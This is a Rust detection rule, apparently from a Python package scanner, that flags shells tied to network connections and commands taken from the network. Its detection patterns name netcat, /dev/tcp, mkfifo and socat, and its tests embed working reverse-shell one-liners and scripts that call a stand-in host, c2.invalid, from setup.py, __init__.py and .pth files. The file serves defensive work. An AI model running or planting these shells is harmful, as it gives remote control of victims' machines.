//! `PRC-007`: somebody else runs commands here.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{self, BESIDE};
use super::given::is_worked_on;
use super::sent::{
    FAR, asks_constant, comes_by_itself, command_lines, is_asked_for, program, spaced,
};
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Call, Folded, Label, Module, SinkKind};

/// The rule.
pub(super) struct RemoteControl;

impl Rule for RemoteControl {
    fn id(&self) -> &'static str {
        "PRC-007"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "commands come from the network"
    }

    fn manual(&self) -> &'static str {
        "A shell is tied to a connection, or what a connection sends is run as a command, \
         and nobody here asked for it.\n\n\
         Whoever is at the other end has the machine.\n\n\
         Mistaken for it: tools for remote administration and for exercises in security; \
         in what only a user calls it counts less."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            let is_command = flow.label == Label::Net && flow.kind == SinkKind::Command;
            if !is_command || is_worked_on(analysis, analysis.sink(flow)) {
                continue;
            }
            let worst = if flow.hops > FAR || is_asked_for(analysis, flow) {
                Severity::Medium
            } else {
                Severity::High
            };
            let is_known = asks_constant(analysis, flow) || comes_by_itself(flow);
            let severity = match is_known && is_at_will(analysis.sink(flow)) {
                true => even_if_asked(worst, flow.context),
                false => in_context(worst, flow.context),
            };
            let confidence = Confidence::of(90).in_context(flow.context);
            let message = format!(
                "{} runs what {} got from the network as a command",
                analysis.sink(flow).target,
                flow.what
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in beside::asked_and_run(analysis) {
            let is_told = observations
                .iter()
                .any(|seen| seen.rule == self.id() && call.place.file == seen.file);
            if !is_told {
                let severity = in_context(Severity::High, call.context);
                let message = format!(
                    "{} runs what nobody can read, where somebody else is talked with",
                    call.target
                );
                observations.push(observe_call(self, call, (severity, BESIDE), message));
            }
        }
        for module in &analysis.modules {
            for call in module.calls.iter().filter(|call| hands_over(module, call)) {
                let severity = even_if_asked(Severity::High, call.context);
                let confidence = Confidence::of(95).in_context(call.context);
                let message = format!("{} ties a shell to a connection", call.target);
                observations.push(observe_call(self, call, (severity, confidence), message));
            }
        }
    }
}

/// Whether the other side chooses the program that `call` starts, not only what it is given.
fn is_at_will(call: &Call) -> bool {
    let lines = command_lines(call);
    let is_shell = |name: &str| matches!(name, "" | "sh" | "bash" | "cmd" | "powershell" | "pwsh");
    lines.is_empty() || lines.iter().any(|line| is_shell(&program(line)))
}

/// Whether the call gives a connection to a shell.
fn hands_over(module: &Module, call: &Call) -> bool {
    if command_lines(call)
        .iter()
        .any(|line| is_reverse_shell(line))
    {
        return true;
    }
    let target = &*call.target;
    let is_forked = target == "pty.fork" && call.context.is_unasked();
    if is_forked || matches!(target, "os.dup2" | "pty.spawn") {
        return connects(module) && has_shell(module);
    }
    let is_tied = ["stdin", "stdout"].iter().any(|name| {
        let given = call.arguments.iter().find(|each| &*each.keyword == *name);
        let is_connection =
            |value: &Folded| matches!(value, Folded::Name(name) if name.starts_with("socket."));
        if given.is_some_and(|each| is_connection(&each.value)) {
            return true;
        }
        given.is_some()
            && call
                .code
                .split(name)
                .nth(1)
                .is_some_and(|rest| is_socket(rest, module))
    });
    call.sink == Some(SinkKind::Command) && is_tied
}

/// Whether what follows `stdin` in the text of a call is the number of a connection.
fn is_socket(rest: &str, module: &Module) -> bool {
    let value = rest.trim_start_matches(['=', ' ']);
    let value = value.split([',', ')']).next().unwrap_or(value);
    connects(module) && (value.contains("fileno") || value.contains("sock") || value.len() <= 2)
}

fn connects(module: &Module) -> bool {
    module.calls.iter().any(|call| {
        let name = call.target.rsplit('.').next().unwrap_or_default();
        call.target.starts_with("socket.")
            && matches!(
                name,
                "connect" | "connect_ex" | "create_connection" | "accept"
            )
    })
}

fn has_shell(module: &Module) -> bool {
    let is_shell =
        |call: &Call| call.sink == Some(SinkKind::Command) || &*call.target == "pty.spawn";
    module.calls.iter().any(is_shell)
}

fn is_reverse_shell(command: &str) -> bool {
    let line = spaced(command);
    let is_netcat = [" nc ", " ncat ", " netcat "]
        .iter()
        .any(|name| line.contains(name));
    let runs = [
        " -e ",
        " -c /bin",
        "/bin/sh",
        "/bin/bash",
        "cmd.exe",
        "mkfifo",
    ];
    line.contains("/dev/tcp/")
        || line.contains("/dev/udp/")
        || is_netcat && runs.iter().any(|way| line.contains(way))
        || line.contains(" socat ") && line.contains("exec:")
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn shells_on_connections_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import socket, os, pty\ns = socket.socket()\ns.connect(('c2.invalid', 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')",
            ),
            (
                "setup.py",
                "import socket, subprocess\ns = socket.create_connection(('c2.invalid', 1))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())",
            ),
            (
                "demo/__init__.py",
                "import os\nos.system('bash -i >& /dev/tcp/c2.invalid/4444 0>&1')",
            ),
            (
                "demo/__init__.py",
                "import socket, subprocess\ns = socket.socket()\ns.connect(('c2.invalid', 1))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))",
            ),
            (
                "setup.py",
                "import subprocess\nsubprocess.Popen('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.invalid 1 > /tmp/f', shell=True)",
            ),
            (
                "setup.py",
                "import os, requests\nos.system(requests.get('https://c2.invalid/cmd').text)",
            ),
            (
                "demo.pth",
                "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import socket,os;s=socket.socket();s.connect((\"c2.invalid\",1));os.dup2(s.fileno(),0);os.system(\"sh\")'])",
            ),
        ] {
            found("PRC-007", path, code);
        }
    }

    #[test]
    fn terminals_and_connections_alone_are_not() {
        for (path, code) in [
            ("demo/__init__.py", "import os\nos.dup2(1, 2)"),
            ("demo/__init__.py", "import pty\npty.spawn('/bin/sh')"),
            (
                "demo/__init__.py",
                "import subprocess\nsubprocess.run(['nc', '-z', 'host.invalid', '80'])",
            ),
            (
                "demo/__init__.py",
                "import subprocess, socket\ns = socket.create_connection(('a.invalid', 1))\nsubprocess.run(['ls'], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)",
            ),
        ] {
            quiet("PRC-007", path, code);
        }
    }
}
